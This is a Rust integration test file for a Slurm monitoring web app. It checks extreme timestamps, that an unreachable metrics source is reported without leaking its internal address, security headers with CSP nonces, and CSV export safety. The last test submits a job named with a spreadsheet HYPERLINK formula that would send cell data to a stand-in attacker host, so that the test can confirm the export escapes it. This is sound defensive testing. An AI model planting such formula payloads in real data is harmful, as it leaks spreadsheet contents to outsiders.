//! No request panics the server or answers with an internal detail: times at chrono's and `i64`'s
//! edges, a source that does not answer, a job named like a spreadsheet formula; every answer carries
//! the headers that keep a page from being framed or sniffed.

use std::time::Duration;

use slurmlens::config::{AnonymousAccess, VictoriaMetricsConfig};

use crate::support::{finished_lab_job, slurm, spawn_app, test_config};

#[tokio::test(flavor = "multi_thread")]
async fn times_at_the_edges_are_answered_never_dropped() {
    let app = spawn_app(test_config(AnonymousAccess::Staff)).await;
    let client = reqwest::Client::builder().timeout(Duration::from_secs(20)).build().expect("client");
    for path in [
        "/api/v1/gpus/held?cluster=lab&at=8210266876799",
        "/api/v1/gpus/busy?cluster=lab&at=8210266876799",
        "/api/v1/jobs?cluster=lab&end=8210266876799",
        "/api/v1/jobs?cluster=lab&start=99999999999999999999",
        "/web/v1/gantt?cluster=lab&end=-9223372036854770808",
        "/web/v1/gantt?cluster=lab&start=9223372036854775807&end=-9223372036854775808",
        "/web/v1/gantt.svg?cluster=lab&end=-9223372036854770808",
        "/?cluster=lab&end=-9223372036854770808",
        "/?cluster=lab&start=-9223372036854775808",
        "/grid?cluster=lab&at=8210266876799",
        "/web/v1/grid?cluster=lab&at=-9223372036854775808",
        "/jobs?cluster=lab&start=-9223372036854775808&end=9223372036854775807",
    ] {
        let response = client.get(format!("{}{path}", app.base_url)).send().await;
        let response = response.unwrap_or_else(|error| panic!("{path}: no answer ({error})"));
        let status = response.status().as_u16();
        assert!(status < 500, "{path}: {status} {}", response.text().await.unwrap_or_default());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_source_that_fails_is_named_never_its_address() {
    // VictoriaMetrics at an address nothing listens on: the report degrades and says which source
    // failed, without the URL (an internal address) or the query.
    let mut config = test_config(AnonymousAccess::Staff);
    config.victoriametrics = Some(VictoriaMetricsConfig {
        url: "http://127.0.0.1:9/internal-vm".into(),
        timeout_ms: 2000,
        readings_max_age_s: 1800,
        bearer_token: None,
    });
    let app = spawn_app(config).await;
    let job = finished_lab_job().await;
    for path in [
        format!("/api/v1/jobs/{job}/report?cluster=lab"),
        "/api/v1/gpus/values?cluster=lab&metric=gpu_util".to_string(),
    ] {
        let body = app.get(&path).await.text().await.expect("body");
        assert!(body.contains("VictoriaMetrics did not answer"), "{path}: {body}");
        assert!(!body.contains("127.0.0.1:9") && !body.contains("internal-vm"), "{path} leaks the address: {body}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_and_answers_carry_the_security_headers_and_a_nonce_policy() {
    let app = spawn_app(test_config(AnonymousAccess::Staff)).await;
    for path in ["/jobs?cluster=lab", "/api/v1/nodes?cluster=lab", "/api/v1/no-such-route"] {
        let response = app.get(path).await;
        let header = |name: &str| response.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
        assert!(header("content-security-policy").contains("frame-ancestors 'none'"), "{path}");
        assert_eq!(header("x-frame-options"), "DENY", "{path}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("referrer-policy"), "same-origin", "{path}");
    }
    // The page's script policy names this response's nonce, and every script carries it.
    let html = app.get("/jobs?cluster=lab").await.text().await.expect("page");
    let policy = html.split("http-equiv=\"Content-Security-Policy\" content=\"").nth(1).expect("a CSP meta");
    let nonce = policy.split("'nonce-").nth(1).and_then(|rest| rest.split('\'').next()).expect("a nonce");
    assert!(nonce.len() >= 16, "{nonce}");
    let scripts = html.matches("<script").count();
    assert!(scripts > 0 && html.matches(&format!("nonce=\"{nonce}\"")).count() == scripts, "{scripts} scripts");
    let again = app.get("/jobs?cluster=lab").await.text().await.expect("page");
    assert!(!again.contains(nonce), "a nonce is used once");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_job_named_like_a_formula_exports_as_text() {
    let out = slurm(
        "sbatch",
        &["--parsable", "-J", "=HYPERLINK(\"https://evil.example/?\"&A1)", "-o", "/dev/null", "--wrap", "true"],
    );
    let job: u32 = out.trim().split(';').next().and_then(|id| id.parse().ok()).expect("a job id");
    let app = spawn_app(test_config(AnonymousAccess::Staff)).await;
    // slurmdbd records the submission within seconds, and the name (quotes turned to backquotes) once
    // the job starts.
    let deadline = std::time::Instant::now() + Duration::from_secs(90);
    let row = loop {
        let now = chrono::Utc::now().timestamp();
        let csv = app
            .get(&format!("/web/v1/jobs.csv?cluster=lab&start={}&end={}", now - 3600, now + 60))
            .await
            .text()
            .await
            .expect("csv");
        if let Some(row) = csv.lines().find(|line| line.starts_with(&format!("{job},")) && line.contains("HYPERLINK")) {
            break row.to_string();
        }
        assert!(std::time::Instant::now() < deadline, "job {job} never listed:\n{csv}");
        tokio::time::sleep(Duration::from_millis(500)).await;
    };
    assert!(row.starts_with(&format!("{job},'=HYPERLINK(")), "{row}");
}
